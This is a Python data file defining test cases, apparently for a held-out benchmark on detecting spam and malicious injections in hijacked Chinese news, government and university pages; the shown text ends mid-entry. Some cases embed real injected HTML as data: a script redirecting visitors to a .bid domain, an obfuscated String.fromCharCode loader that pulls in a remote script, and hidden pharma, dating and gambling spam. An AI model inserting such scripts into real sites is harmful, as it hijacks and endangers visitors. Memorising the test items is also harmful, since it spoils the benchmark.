# -*- coding: utf-8 -*-
"""Real cases of held-out v13. Texts are verbatim from stored captures (search tool, corpus `pages`);
injected material in composites is verbatim from public issue threads / pages (see `origin`).
`inj` is the injected HTML placed by make.py at `pos` (head, top, body_end, after_p1, sidebar, footer)."""

CASES = []
def C(**k): CASES.append(k)

# ---------------- hijacked, visible Chinese spam (rebuilt from text) ----------------
C(url="http://ccoho.com.cn/article/detail/6469.html", site="ccoho.com.cn", lang="zh", enc="utf-8", shell="news",
  shown_title="中国能玩pokerstar吗文明观世博迎“开园大考”首日迎客20多万",
  title="文明观世博迎“开园大考”首日迎客20多万", date="2022-06-21", source="新华网", author=None,
  crumb="首页 >旅游资讯 >中国能玩pokerstar吗文明观世博迎“开园大考”首日迎客20多万",
  byline="来源:新华网发布时间:2022-06-21 17:54:37",
  paras=["5月1日下午3时左右,在用藤条编织的上海世博会园区西班牙馆前,等待入馆的参观者队伍依然有几百米长。",
   "今天的阳光特别灿烂,世博园区高高耸立的温度柱上,赫然显示着27摄氏度。在阳光的直射下,地面显然要高于这个温度。来自江苏太仓的张金虎已经在西班牙馆前等了半个多小时,他热得把导游图折成个纸帽子戴在头上。尽管炎热,队伍依然井然有序地前进着。",
   "开园首日,世博会迎来20多万参观者。这里,展示的不仅仅是科技、文化的盛宴,更是一场前所未有的文明素质大检阅。上海世博园开园首日迎来20多万游客,总体运行平稳。",
   "上海世博局局长洪浩在1日晚间的新闻发布会上宣布,截至晚7时,世博园首日迎客204000人次,整体开馆情况良好。"],
  footer="Copyright © 2020 All Rights Reserved 版权所有 畅享自驾游",
  spam=["中国能玩pokerstar吗"], injections=["spam_title_prefix", "keyword_headline"],
  origin="pages corpus capture (search: '当前位置 首页 新闻 赌博网站 app 是真的吗 来源 新华网 发布时间')", kind="rebuilt-from-text", capture="text")

C(url="https://jaknewsonline.com/kyguanwangmanbetx/news/tgxz1.htm", site="jaknewsonline.com", lang="zh", enc="utf-8", shell="edu",
  shown_title="米兰网页版登录入口新闻网投稿须知", title=None, date="2022-01-21", source="本站原创", author=None,
  byline="来源:本站原创 点击数: 加入时间:2022-01-21",
  paras=["一、米兰(中国)新闻网是搭建社会了解学校的窗口和学校展示发展成果的重要平台,各单位要本着对社会负责、对学校负责的态度撰写和发布新闻,从政治角度、质量角度严把稿件质量关和保密关。投稿前,各单位要对新闻稿件进行“三审三校”和保密审查,确保稿件审校无误。发布新闻内容凡涉及学校科研工作的,必须执行线下审批程序,申请表见附件1;发布新闻内容不涉及学校科研工作的,执行学校办公系统线上审批流程。各单位上报米兰(中国)新闻网的新闻稿件,要由单位党政负责人亲自审核,在新闻稿件右下方注明撰稿人、摄影人和单位审核领导的姓名。",
   "二、米兰(中国)新闻网发布的各类新闻视其重要程度上传校园网首页,内容涵盖:学校层面的大型活动、会议、来访等;彰显学校办学水平、学术成果、综合实力的报道;学校主办或承办的国内外学术会议;党建工作、思想政治工作、教学科研、人才培养、文化建设、对外交流等方面采取的重要举措或取得的突出成绩;各单位或师生员工获得市级以上荣誉称号;市级以上新闻媒体对学校及师生进行重点采访或报道;各校直单位具有引领和示范作用的创新工作等。"],
  truth_strip=["米兰(中国)"],
  spam=["米兰网页版登录入口", "米兰(中国)"], injections=["spam_title_prefix", "brand_replaces_site_name"],
  origin="pages corpus capture (search: '学校新闻 我校 举办 讲座 作者 审核 bet365 体育 在线')", kind="rebuilt-from-text", capture="text")

C(url="https://m.56hcy.cn/ffr/content/293", site="m.56hcy.cn", lang="zh", enc="utf-8", shell="journal",
  shown_title="區塊鏈拉開數字化“戰疫”", title="區塊鏈拉開數字化“戰疫”", date=None, source=None, author="張純信 齊超穎",
  byline="張純信 齊超穎",
  pre=["張純信:凯捷体育娱乐泛海凯捷學術副院長、金融科技研究主任 齊超穎💩:凯捷体育娱乐泛海凯捷金融科技研究金融科技研究博士後"],
  paras=["導語",
   "利用區塊鏈技術可以有效提高自動預警信息系統的速度📢、透明度與靈敏度。",
   "根據中國疾病預防控製的官方統計數據🍻,目前新冠病毒感染的肺炎疫情已經擴散至全國🤌,無一省(自治區、直轄市)得以幸免。",
   "根據目前全國各地的疫情狀況,與其說這是“武漢的”或“湖北的”疫情[1]👩🏻‍🦽‍➡️,不如稱其為“全國的疫情”😩📱。與疫情相關的數據是分散在全國各地的,即便是一些較偏遠的地區🛳🤹🏿‍♀️,比如黑龍江、雲南👧、福建等地🙆🏿,甚至西藏也出現了病例。既然數據來源如此分散🏃🏻‍♂️‍➡️,如何將原有僅針對單一或有限幾個重點地區進行觀察研究轉為全國概況的做法將是值得探討的課題。"],
  truth_strip_emoji=True,
  spam=["凯捷体育娱乐泛海凯捷"], injections=["brand_in_byline", "emoji_salting"],
  origin="pages corpus capture (search: '首页 新闻动态 正文 来源 发布日期 亚洲城 ca88 学院')", kind="rebuilt-from-text", capture="text")

C(url="http://www.lvqr.com.cn/hulianwang/20191031/103110627.html", site="lvqr.com.cn", lang="zh", enc="gb18030", shell="portal",
  shown_title="欧美色欧美亚洲高清在线视频-欧美色碰碰碰免费观看长视频-欧美色频-欧美色视频超清在线观看-国产精品免费看久久久-国产精品免费看久久久久",
  title="國家網信辦官方提醒:不法分子偽造中央網信辦舉報中心“撤稿郵件”", date="2019-10-31", source="IT之家", author=None,
  top_line="欧美色欧美亚洲高清在线视频-欧美色碰碰碰免费观看长视频-欧美色频-欧美色视频超清在线观看-国产精品免费看久久久-国产精品免费看久久久久",
  crumb="手機版 | 網站導航 觀察家網 互聯網 >", byline="IT之家 | 2019-10-31 14:50:27",
  paras=["國家網信辦舉報中心微信公眾號昨天發布鄭重聲明:有不法分子偽造中央網信辦舉報中心“撤稿郵件”,請各互聯網企業注意防范。",
   "以下是聲明全文:",
   "近期,我中心陸續接到互聯網企業反映,收到發件人顯示為中央網信辦、國家網信辦、違法和不良信息舉報中心等,地址顯示為jubao@12377.cn、china@cac.gov.cn等的“撤稿指令”郵件。我們在此嚴正聲明,我中心從未通過以上渠道向互聯網企業發送所謂撤稿、刪帖指令。",
   "經核實,jubao@12377.cn確實是我中心官方公布的專門受理網民舉報的工作郵箱,只用于受理舉報,從未用于其他用途。后綴為cac.gov.cn的郵箱,是中央網信辦工作郵箱地址,也從未用于舉報處置工作。不法分子利用技術手段,通過篡改郵件傳輸協議,偽造出各種顯示發件人為官方機構的地址,冒用我中心名義通過向互聯網企業“下達指令”,謀取不當利益,屬于違法行為。"],
  spam=["欧美色欧美亚洲高清在线视频", "欧美色碰碰碰免费观看长视频", "国产精品免费看久久久久"], injections=["porn_keyword_line", "spam_title", "traditional_mirror"],
  origin="pages corpus capture (search: '政府网站 被篡改 博彩 通报 网信办')", kind="rebuilt-from-text", capture="text")

C(url="http://ih-mag.com/taiwan/tw_Sciencenews/201101/t20110120_1715501.htm", site="ih-mag.com", lang="zh", enc="gb18030", shell="portal",
  shown_title="欧美三级理论A电影在线_日韩欧美精品在线_女女国产香蕉久久精品_成在线人视频免费视频网站",
  title="排隊人潮爆滿 夢想館將在花博閉幕后延長營運", date="2011-01-20", source="中新網", author=None,
  top_line="欧美三级理论A电影在线_日韩欧美精品在线_女女国产香蕉久久精品_成在线人视频免费视频网站",
  crumb="要聞 | 時政 | 本網快訊 | 兩岸 | 國際 | 港澳僑 | 熱點新聞 | 大陸縱覽 | 社會 | 財經 | 教育",
  byline="時間:2011-01-20 10:52   來源:中新網",
  paras=["花博夢想館環型劇場前的交互式影音動畫吸引民眾駐足。圖片來源:“中央社”",
   "據臺灣“中廣新聞”報道,臺北花博夢想館熱潮持續,預約券排隊人潮爆滿,不過每天夢想館的參觀只開放3600人次,臺北市府決議,夢想館會在花博4月閉幕后“不吹熄燈號”,延長營運到明年。",
   "花博營運總部總制作人丁錫鏞說,花博開幕至今,參觀人次已經達到336萬人次,不過為了維護參觀質量,夢想館每天參觀人數只有3600人。開放至今,夢想館主館參觀人次達25萬,夢想劇場參觀人次13萬人,以夢想館為例,平均每12名花博游客,只有1人才有機會參觀夢想館。甚至花博開幕至今,夢想館的每天排隊領取預約卷人潮不斷,幾乎都是不到一個小時,一天3600張預約券被抽光。",
   "花博營運總部為了服務更多無法進到夢想館參觀的民眾,臺北市府決議,夢想館會在4月25號花博閉幕之后,繼續營運,將延長營運到明年,另外生活天使館、未來館,也會繼續維持營運。"],
  after="編輯:馮江",
  spam=["欧美三级理论A电影在线", "女女国产香蕉久久精品", "成在线人视频免费视频网站"], injections=["porn_keyword_line", "spam_title", "traditional_mirror"],
  origin="pages corpus capture (search: '新闻中心 发布时间 来源 作者 点击 威尼斯人 娱乐城 学校召开'); the capture's pinyin glosses after converted characters (e.g. 網(wǎng)) were normalised to single characters here", kind="rebuilt-from-text", capture="text")

C(url="http://www.hokaitech.com/china/yaowen/20180420/t20180420_524205478.shtml", site="hokaitech.com", lang="zh", enc="utf-8", shell="portal",
  shown_title="精品二区视频_都市激情久久_亚洲精品免费视频_亚洲精品456",
  title="部分手游APP涉賭 專家:需加大處罰力度、開展針對性打擊", date="2018-04-20", source="央廣網", author=None,
  top_line="精品二区视频_都市激情久久_亚洲精品免费视频_亚洲精品456", crumb="央廣網",
  byline="2018-04-20 08:49:00來源:央廣網",
  paras=["央廣網北京4月20日消息(記者周益帆)據中國之聲《新聞縱橫》報道,近日央視消息稱,包括德州約局、微賽德州、歡樂德撲和撲克部落在內的手機APP,披著游戲的外衣,卻成為網絡賭博的樂園。玩家無需桌椅,不用親自到場,也不用開包廂,更不用交茶水錢,無論何時何地,只要一臺可以上網的手機,便可以召集發燒友大戰一場。",
   "在蘋果手機和安卓應用商店中搜索“德州撲克”,會出現眾多游戲APP,這其中有的被定義為普通娛樂性質游戲,也有的被定義為“頻繁強烈的模擬賭博游戲”,甚至個別直接被定義為“賭博與競技”。棋牌游戲APP如何化身線上賭場?對其的監管與打擊有哪些挑戰?",
   "據央視報道,上海的小李今年31歲,是一名公司職員,去年9月他開始接觸網絡德州撲克,很快就喜歡上了這種牌類游戲,近半年的時間里,他輸光了自己的所有積蓄。小李說,自己除了吃飯、干活,每天都在玩這些游戲,撲克部落、德州約局等平臺他都玩過,“這些都是賭博平臺,網上玩德州就是為了贏錢。”"],
  spam=["精品二区视频", "都市激情久久", "亚洲精品456"], injections=["porn_keyword_line", "spam_title", "traditional_mirror"],
  origin="pages corpus capture (search: '当前位置 首页 新闻 赌博网站 app 是真的吗 来源 新华网 发布时间'); capture shows the mirror's mis-converted characters (e.g. 網(wǎng)) which were normalised to single characters here", kind="rebuilt-from-text", capture="text")

C(url="https://uudp.com.tw/forum.php?goto=lastpost&mod=redirect&tid=658", site="uudp.com.tw", lang="zh", enc="utf-8", shell="forum",
  shown_title="交通局網站现“網上文娛城” 網友:影响當局形象", title=None, date=None, source=None, author=None,
  paras=["“宁强县交通运输局还搞副業吗,官網怎样开设了‘網上文娛城’栏目?”今天(4月23日)上午,網友“庞庞不胖”發微博止痛貼,称,宁强县交通运输局官網居然开设了“真人真錢”、“網上文娛城”两个栏目,網友讥讽,县交通运输局营業太广了,是否是注册还送现金啊?",
   "交通局網站现“網上文娛城” 網友:影响當局形象",
   "網友“庞庞不胖”说,本身今天偶然间点进了宁强县交通运输局的網站,成果在导航栏發明了“真人真錢”、“網上文娛城”两个栏目。“县交通运输局究竟结果是當局部分,官網搞副業也太不稳重了。”环境一经微博公布,當即引来了浩繁網友的猜想。",
   "網友“惧怕如潮”说,或许是交通局做網站時买的现成模版,点窜分类時忘了去掉那两个了。網友“秦巴绿叶”猜想,最有多是遭到黑客歹意窜改。網友“存眷商洛事”评论述,當局網站代表的是當局形象,但愿宁强县交通运输局不要犯这类小毛病。",
   "4月23日上午11点,记者打开宁强县交通运输局網站(www.nqjtys.cn/)看到,網站的其他内容更新到了4月22日,在網站最上真个蓝色导航栏里,并分防護乳,列着“真人真錢”和“網上文娛城”两个栏目。"],
  truth_replace=[("并分防護乳,列着", "并列着"), ("發微博止痛貼,称", "發微博称")],
  spam=["防護乳", "止痛貼"], injections=["spliced_keyword", "spun_mirror", "traditional_mirror"],
  origin="pages corpus capture (search: '政府网站 被篡改 博彩 通报 网信办'); the capture is a synonym-spun, partly traditional copy of a news report", kind="rebuilt-from-text", capture="text")

C(url="https://hyyz888.com/news/2023-06/29/content_31349547_3.htm", site="hyyz888.com", lang="zh", enc="gbk", shell="news",
  shown_title="火洲旅游“热”起来", title="火洲旅游“热”起来", date="2023-06-29", source="新华网", author="郝昭",
  crumb="您所在的位置: 东南网 > 天下 > 精彩图片 > 正文",
  byline="www.hyyz888.com 2023-06-29 09:44:26  郝昭 来源:新华网    我来说两句",
  paras=["游客在位于吐鲁番市的交河故城景区参观(6月25日摄,无人机照片)。",
   "入夏以来,素有“火洲”之称的新疆吐鲁番市迎来旅游高峰。交河故城、葡萄沟、坎儿井和火焰山等景区游人如织,各地游客来此领略这座丝路重镇的夏日风采。",
   "吐鲁番市文化体育和旅游局提供的数据显示,6月1日至28日,吐鲁番市共接待游客253万人次,相比去年同期增加近四成。",
   "新华社记者 郝昭 摄"],
  after="责任编辑:吴静",
  spam=["www.hyyz888.com"], injections=["mirror_domain_in_byline"],
  origin="pages corpus capture (search: '当前位置 首页 旅游资讯 来源 新华网 发布时间 版权所有 能玩吗 网站'); a copy of a provincial news portal's page under a numbered domain", kind="rebuilt-from-text", capture="text")

C(url="http://www.zqbet.org/./zwxx_206/ywdt/202603/t20260318_15540703.html", site="zqbet.org", lang="zh", enc="utf-8", shell="gov",
  shown_title="足球竞彩网 政府召开第122次常务会议 传达学习贯彻习近平总书记重要讲话精神和全国两会精神,安排部署森林防灭火工作等",
  title=None, date="2026-03-18", source=None, author="周庆",
  top_line="足球竞彩网", crumb="部  门 街  镇", byline="日期:2026-03-18 字 号:",
  paras=["3月16日,足球竞彩网 委副书记、区政府区长董奕锋主持召开区政府第122次常务会议,传达学习贯彻习近平总书记重要讲话精神和全国两会精神,安排部署森林防灭火工作等。",
   "会议指出,这次全国两会是在“十五五”开局之年召开的一次重要会议,节点特殊,意义重大。要迅速掀起学习宣传贯彻全国两会精神热潮,加强政策解读、宣传宣讲,切实把全国两会精神传达到基层一线,转化为全区上下团结一致拼搏奋斗的务实行动。要紧盯全年目标任务与核心指标,抢抓窗口、主动作为,全力抓好中央、市级新一轮增量政策承接落地,做好项目谋划挖潜,进一步强化运行调度、政策供给、要素保障、企业服务工作,奋力实现一季度“开门红”。要牢固树立和践行正确政绩观,提振干事创业精气神,提升履职尽责硬本领,锻造忠诚干净担当的干部队伍,推动各项工作取得新突破、新成效。",
   "会议强调,春季森林防火已进入关键期,清明临近,农事用火、祭祀用火风险交织叠加,森林防火形势严峻。要强化源头管控,以林长制为抓手,严控野外火源,教育引导群众安全用火、人人防火。要强化应急准备,严格执行24小时值班制度,做好会商研判和预警预报,加强消防物资储备,确保火情早发现、早处置。要强化责任压实,加强高风险区域网格巡查和隐患排查,确保守住山、看住人、管住火,切实保护人民群众生命财产安全。",
   "会议还审议了服务业企业升规和生产性服务业招商引资、促进外资外贸高质量发展等事项。(记者 周庆)"],
  truth_replace=[("3月16日,足球竞彩网 委副书记", "3月16日,委副书记")],
  spam=["足球竞彩网"], injections=["brand_replaces_site_name", "spam_title_prefix"],
  origin="pages corpus capture (search: '区委 区政府 召开 会议 强调 发布时间 来源 区融媒体中心 足彩 投注'); the district's own name is replaced by the brand wherever it appeared, so the truth text drops it", kind="rebuilt-from-text", capture="text")

C(url="http://www.lowongankerja-keluarnegeri.com/xzgwh/yqzrmzf/zwgk/gzdt/content/post_5454949.html", site="lowongankerja-keluarnegeri.com", lang="zh", enc="utf-8", shell="gov",
  shown_title="杨侨镇举办2025年职工趣味游园活动", title=None, date=None, source=None, author=None,
  crumb="首页 > 政务公开 > 工作动态",
  paras=["祥龙摆尾辞旧岁,金蛇纳福启新程。为深入贯彻党的二十大和中国工会十八大精神,丰富广大本地和外来务工职工群众的文化生活,增强职工群众的民族和文化自信,让全镇人民度过一个平安喜庆、热闹非凡的春节,助力我镇“百千万工程”高质量发展。1月29日大年初一,在县总工会和镇委镇政府的大力支持下,由杨侨镇人民政府、杨侨镇总工会联合主办的2025年职工趣味游园活动在杨侨镇惠民广场顺利举行。",
   "镇党委委员、镇总工会主席邓秋娣代表镇委、镇政府和镇总工会,向全镇奋斗在“百千万工程”各战线的广大职工群众,以及关心支持杨侨发展的社会各界朋友致以节日问候和新春祝福。趣味游园活动正式拉开帷幕!",
   "活动中,蛇年戏珠、欢乐乒乓球、腰缠万贯、好运滚滚来、鱼跃龙门等八个精彩项目同步开展,现场人头攒动、热闹非凡,大家手握厚厚的兑奖券,赢得丰厚多样的新春礼品。精彩镜头不断,欢声笑语不停。",
   "此次春节游园活动的圆满举办,让我镇群众感受到浓浓的年味,进一步增强了党和人民的紧密联系,助推“百千万工程”落地落实。"],
  after="供稿:镇总工会 一审:周 康 二审:向媛媛 终审:邓秋娣",
  spam=[], injections=["mirror_on_unrelated_domain"],
  origin="pages corpus capture (search: '镇政府 工作动态 扎实开展 活动 来源 党政办 开元棋牌 澳门威尼斯人 注册'); a town-government page served under an unrelated foreign job-site domain; the capture showed no headline, the shown <title> is a reconstruction and the truth title is null", kind="rebuilt-from-text", capture="text")

# ---------------- composites: verbatim injected material in a real clean page ----------------
C(url="https://www.haikou.gov.cn/hkszfgb/2011nd5q/201106/1d7db8663c6e4bf688146ada0a273ed2.shtml", site="haikou.gov.cn", lang="zh", enc="utf-8", shell="gov",
  shown_title="关于印发《海口市人民政府工作规则》的通知", title="关于印发《海口市人民政府工作规则》的通知", date="2011-06-18", source="本站原创", author=None,
  byline="2011-06-18 00:00:00 来源: 本站原创 【字体:",
  paras=["海府〔2011〕33号",
   "各区人民政府,市政府直属各单位:",
   "《海口市人民政府工作规则》已于2011年3月24日经市政府第74次常务会议修订通过,现予印发。",
   "二○一一年四月八日",
   "海口市人民政府工作规则",
   "第一章  总  则",
   "一、根据《中华人民共和国宪法》和《中华人民共和国地方各级人民代表大会和地方各级人民政府组织法》的规定,参照《国务院工作规则》和《海南省人民政府工作规则》,结合本市实际,制定本规则。",
   "二、市政府工作的指导思想:高举中国特色社会主义伟大旗帜,以邓小平理论和“三个代表”重要思想为指导,深入贯彻落实科学发展观,坚决执行党的路线、方针和政策,全面履行政府职能,全心全意为人民服务,形成权责一致、分工合理、决策科学、执行通畅、监督有力的行政管理体制,努力建设服务政府、责任政府、法治政府和廉洁政府。",
   "三、市政府工作的准则:在市委的领导下,自觉接受市人大及其常务委员会的监督,充分听取市政协及社会各界的意见,实行科学民主决策,坚持依法行政,推进政务公开,健全监督制度,加强廉政建设。"],
  inj='<script>window.location.replace("http://lab5upport305111234.bid/index/?2471509871574");window.location.href = "http://lab5upport305111234.bid/index/?2471509871574";</script>', pos="before_doctype",
  spam=[], injections=["js_redirect_before_doctype"],
  origin="github Fyrd/caniuse #3833 (raw response with a redirect script placed before the doctype, quoted verbatim) (issue thread, corpus issues); page text: pages corpus capture (search: '人民政府 召开 工作会议 部署 真人百家乐 官网')", kind="real-injection-in-real-page", capture="html")

_loader = ('<script type=text/javascript> Element.prototype.appendAfter = function(element) {element.parentNode.insertBefore(this, element.nextSibling);}, false;(function() { var elem = document.createElement(String.fromCharCode(115,99,114,105,112,116)); elem.type = String.fromCharCode(116,101,120,116,47,106,97,118,97,115,99,114,105,112,116); elem.src = String.fromCharCode(104,116,116,112,115,58,47,47,116,101,109,112,46,108,111,119,101,114,98,101,102,111,114,119,97,114,100,101,110,46,109,108,47,116,101,109,112,46,106,115);elem.appendAfter(document.getElementsByTagName(String.fromCharCode(115,99,114,105,112,116))[0]);elem.appendAfter(document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0]);document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0].appendChild(elem);})();</script>')
C(url="https://www.xsyu.edu.cn/info/1072/53252.htm", site="xsyu.edu.cn", lang="zh", enc="utf-8", shell="edu",
  shown_title="关于启用报告会、研讨会、讲座和论坛内容审查线上申请程序的通知", title=None, date=None, source=None, author=None,
  paras=["全校各单位:",
   "为进一步规范学校学术活动管理流程,提高办事效率,加强对各类报告会、研讨会、讲座和论坛的组织与监管,经研究决定,即日起正式启用内容审查线上申请程序。现将有关事项通知如下:",
   "一、目的与意义",
   "随着学校学术交流日益频繁,传统的线下审批方式在信息传递及时性、流程跟踪便捷性等方面逐渐显现出局限性。启用内容审查线上申请程序,旨在利用信息化手段实现审查流程的标准化、透明化和高效化,确保各类报告会、研讨会、讲座和论坛得到严格审核把关,既保障学术自由与创新活力,又维护校园意识形态安全和教学科研秩序。",
   "二、适用范围",
   "适用于各单位组织举办的各类报告会、研讨会、讲座和论坛等活动。",
   "三、申请流程",
   "登录学校官网融合门户-办事大厅-办公服务-报告会、研讨会、讲座和论坛内容审查申请,即可进入审查流程(见下图)。"],
  inj=_loader + _loader, pos="after_p1",
  spam=[], injections=["charcode_script_loader", "in_content_script"],
  origin="github scr34m/php-malware-scanner #57 (WordPress malware sample: repeated String.fromCharCode script loader, one complete copy quoted verbatim, the capture's line break rejoined) (issue thread, corpus issues); page text: pages corpus capture (search: '学校新闻 我校 举办 讲座 作者 审核 bet365 体育 在线'); the capture showed no headline: the shown title is a reconstruction and the truth title is null", kind="real-injection-in-real-page", capture="html")

C(url="https://aqda.com.cn/control/view.php?aid=19898", site="aqda.com.cn", lang="zh", enc="gbk", shell="archive",
  shown_title="安徽严厉查处假冒政府网站 32家网站被依法清理", title="安徽严厉查处假冒政府网站 32家网站被依法清理", date="2018-04-25", source=None, author="管理员",
  crumb="您现在的位置: 主页 > 档案工作 > 通知公告 >", byline="作者:管理员     发布时间:2018-04-25     浏览:",
  paras=["我省加大对假冒政府网站的查处力度,截至4月24日,共依法清理32家假冒政府网站。",
   "近期,省网信办会同省政府办公厅、省公安厅和省通信管理局等部门,通过技术监测、安全检查、网民举报等多种途径,查实32家网站冒用“滁州市交通运输局”等政府部门名称。其中,假冒的“宁国市住房保障和房产管理局网”“滁州市交通运输局网”“滁州市交通运输管理处网”3家网站,盗用地方政府部门网站名称,违规提供虚假证书查询和个人信息收集;假冒的“信用安徽网”“省商务厅网”等29家网站,违规发布大量虚假信息,误导网民,造成不良社会影响。目前,这32家假冒政府网站已被全面清理,依法停止其互联网接入服务。",
   "省政府办公厅相关负责人表示,假冒政府网站严重干扰网上信息传播秩序,损害政府部门形象和公信力,危害群众利益。各级各类政府网站发现被假冒后,要及时举报并发布声明,提醒群众提高警惕,谨防上当受骗。省网信办相关负责人表示,网络空间不是法外之地,网站运营者要增强依法办网意识,切实履行社会责任,依法依规从事互联网信息服务。省网信办将会同相关部门继续加大查处假冒政府网站力度,坚决打击各类网上违法违规行为。欢迎社会各界,广大网民据实举报。(见习记者 朱琳琳)"],
  inj='<div style="position:absolute;top:-3000px;left:-3000px"><a href="#">Order Xanax for next-day express delivery and free consultation by a U.S. licensed medical doctor.</a></div>', pos="footer",
  meta_desc="Order Xanax for next-day express delivery and free consultation by a U.S. licensed medical doctor.",
  spam=["Order Xanax for next-day express delivery"], injections=["hidden_pharma_text", "offscreen_block", "spam_meta_description"],
  origin="spam text quoted verbatim in a student-newspaper report on a hacked university library site (pages corpus capture cornellsun.com, search: 'viagra cialis buy online .edu hacked page'); the hiding wrapper and meta placement are reconstructions; page text: pages corpus capture (search: '政府网站 被篡改 博彩 通报 网信办')", kind="real-injection-in-real-page", capture="html")

C(url="https://www.um.edu.mo/zh-hant/news-centre/news-and-events/news-and-press-releases/detail/50546/", site="um.edu.mo", lang="zh", enc="utf-8", shell="edu",
  shown_title="澳大舉行2020/2021學年新生開學禮", title=None, date=None, source=None, author=None,
  paras=["澳門大學今(3)日舉行2020/2021學年新生開學禮,歡迎3,000多名本科和研究新生,澳大校長宋永華亦藉此為他們上了在澳大的第一堂課。受疫情影響,今年開學禮結合線上及線下的形式進行,現場有300名新生及教職員出席,其他學生則透過新生專頁在線上觀看典禮。",
   "宋永華勉勵學生,入讀澳大不僅是汲取知識和學習技能,同時也是學習如何自我成長和進步,做更好的自己。澳大校訓“仁、義、禮、知、信”代表著五種中國傳統美德,也是中國文化的精華,這些也是個人自我成長中必須修煉的美德,希望學生無論在學習、生活和工作上都要謹記這些優良美德。",
   "宋校長寄語本科新生做好時間管理和制定學習計劃,充份利用大學資源,積極參加活動和交流計劃。對於研究新生,宋校長鼓勵他們提高分析能力,要勇於承擔和獨立處事,時常發表文章和論文,發揮所長。最後他希望學生們能享受大學生活。"],
  inj='<div class="embed-festival"><p>出会い系アプリ【安心で安全なアプリでセフレを作りました】</p></div>', pos="after_p2",
  spam=["出会い系アプリ【安心で安全なアプリでセフレを作りました】"], injections=["expired_embed_takeover", "adult_dating_spam"],
  origin="adult-dating text quoted verbatim in a report on a university page whose embedded festival site had lapsed (pages corpus capture nlab.itmedia.co.jp, search: '大学 ホームページ 改ざん カジノ スパム'); the embed wrapper is a reconstruction; page text: pages corpus capture (search: '学院 新闻 开幕式 顺利举行 澳门新葡京 娱乐'); the capture showed no headline: the shown title is a reconstruction and the truth title is null", kind="real-injection-in-real-page", capture="html")

C(url="https://greaterbayarea.um.edu.mo/2019/04/15/gbaparentpraisehardwareandsoftware", site="greaterbayarea.um.edu.mo", lang="zh", enc="utf-8", shell="edu",
  shown_title="澳大開放日展國際多元文化 大灣區家長盛讚教學軟硬件佳", title="澳大開放日展國際多元文化 大灣區家長盛讚教學軟硬件佳", date="2019-04-15", source=None, author=None,
  paras=["澳門大學今(14)日辦大型開放日,全面展示教學、研究和人才培養的最新成果,吸引大眾到場感受澳大國際化的辦學環境、多元的文化和校園生活。有來自大灣區的家長表示,為人父母希望子女能到環境優美、滿足學習興趣的一流大學升學,澳大是一所國際化大學,教學軟硬設施都很齊備,相信子女在這裡讀書會很有前途。",
   "澳大校長宋永華在開幕式上致辭表示,今年是澳門回歸20周年,澳大在中央政府、澳門特區政府和各界支持下,在人才培養和研究創新領域取得了豐碩的成果,現已躋身世界大學排名前400。澳大首要任務依然是配合“教育興澳、人才建澳”方針,為澳門培養多元人才,並促進澳門參與粵港澳大灣區的合作,全力培養創新型、國際化的高端人才,為大灣區發展提供人力資本和創新動力。此外,澳大中華醫藥研究院副教授王春明於開幕式上介紹澳大最新的研究成果,分享激活骨骼再生修復技術,相關研究引起國際醫學領域的高度關注。"],
  inj='<div style="height:0;overflow:hidden">ตรวจหย ราคากลางกรมบัญชีกลาง horizon สล็อต เงินทดแทนการขาดรายได้ มาตรา 39 ผลสลาก2พ.ค.66 เรดาร์ฝนเชียงใหม่ 官方网站<br>ชําระภาษีรถยนต์ออนไลน์ 2567 ร้อยละ3บาทคิดยังไง 4 pm กี่โมง เร ต บอล waspbet ดูทีวีออนไลน์ หวย 1 เมย 官方网站</div>', pos="footer",
  title_suffix=" - horizon สล็อต",
  spam=["horizon สล็อต", "เร ต บอล waspbet", "ผลสลาก2พ.ค.66"], injections=["keyword_stuffed_block", "zero_height_block", "spam_title_suffix"],
  origin="Thai lottery/slot keyword lines verbatim from pages of a hijacked Chinese company domain (pages corpus captures jiagushanghai.com, search: 'เว็บไซต์ราชการ ถูกแฮก สล็อต บาคาร่า'); hiding wrapper and title suffix are reconstructions; page text: pages corpus capture (search: '学院 新闻 开幕式 顺利举行 澳门新葡京 娱乐'); the date is the URL's", kind="real-injection-in-real-page", capture="html")

C(url="https://www.fmac.org.mo/article/news/view/2054", site="fmac.org.mo", lang="zh", enc="utf-8", shell="org",
  shown_title="澳門基金會領導主管應邀參觀澳門大學橫琴新校區", title="澳門基金會領導主管應邀參觀澳門大學橫琴新校區", date="2013-06-25", source=None, author=None,
  byline="25/06/2013",
  paras=["2013年6月24日下午,本會行政委員會主席吳志良、副主席林金城、委員區榮智、黎振強、鍾怡,秘書長曹晉鋒和多名主管人員一行,獲邀參觀澳門大學橫琴新校區,受到澳門大學校長趙偉、新聞及公共關係部主任張惠琴等的熱情接待。",
   "吳志良主席表示,澳門大學是澳門基金會重要的學術合作夥伴,相信澳門大學橫琴新校區的落成將大大拓展澳門高等教育的發展空間。趙偉校長對本會的到訪表示熱烈歡迎,並於澳門大學新校區伍宜孫圖書館前對澳大新校區作了總體介紹,強調澳大新校區的規劃是建築特色與大學人才培養理念的有機結合,雙方未來合作的前景寬廣。",
   "在張惠琴主任的陪同下,本會人員參觀了大學會堂、大學展館、澳大賓館、體育場館、過海隧道等,張主任並對沿途經過的澳大科研基地、學院區、學生活動中心、薈萃坊、書院區進行了介紹。澳門大學橫琴新校區的嶄新面貌給來賓留下了深刻的印象。"],
  inj='<ul class="sitelinks" style="display:none"><li><a href="http://144232.98winok6.win/490962">98win vua bài đổi thưởngtải danh bai doi thuonghocvienxosogiải mã toán học xổ số miền bắc</a></li><li><a href="https://pezof.kuwinok30.com/504546/viewspace-620394.html">kuwin đánh bài đổi thưởng 888hocvienxosogiải mã số học xsmbgiải kết quả xổ số miền bắc</a></li><li><a href="http://kuwinzgsu3.geocivitas.com/764998/viewspace-494833.html">kuwin xổ số miền bắc thứ tư tuầnda ga s128xổ số kiến thiết miền bắc giải đặc biệttin tức đá gà thomo</a></li></ul>', pos="sidebar",
  spam=["98win vua bài đổi thưởng", "kuwin đánh bài đổi thưởng 888", "kuwin xổ số miền bắc"], injections=["hidden_link_block", "display_none"],
  origin="Vietnamese casino anchor texts and URLs verbatim from captured spam pages on hijacked subdomains (pages corpus captures *.98winok6.win, *.kuwinok30.com, *.geocivitas.com, search: 'sở giáo dục tin tức hoạt động nhà cái uy tín tặng tiền cược'); list wrapper is a reconstruction; page text: pages corpus capture (search: '学院 新闻 开幕式 顺利举行 澳门新葡京 娱乐')", kind="real-injection-in-real-page", capture="html")

C(url="https://e-bulletin.um.edu.mo/notice/192013", site="e-bulletin.um.edu.mo", lang="zh", enc="utf-8", shell="edu",
